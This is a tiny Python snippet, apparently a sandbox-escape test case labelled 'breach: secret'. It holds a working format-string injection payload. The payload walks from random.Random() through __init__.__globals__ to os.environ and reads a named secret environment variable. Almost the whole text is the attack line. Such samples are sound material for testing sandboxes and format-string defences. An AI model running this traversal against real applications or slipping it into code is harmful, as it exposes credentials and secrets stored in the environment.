# str.format walks attributes to os.environ.
# breach: secret
import random
("{0.__init__.__globals__[_os].environ[" + SECRET_NAME + "]}").format(random.Random())
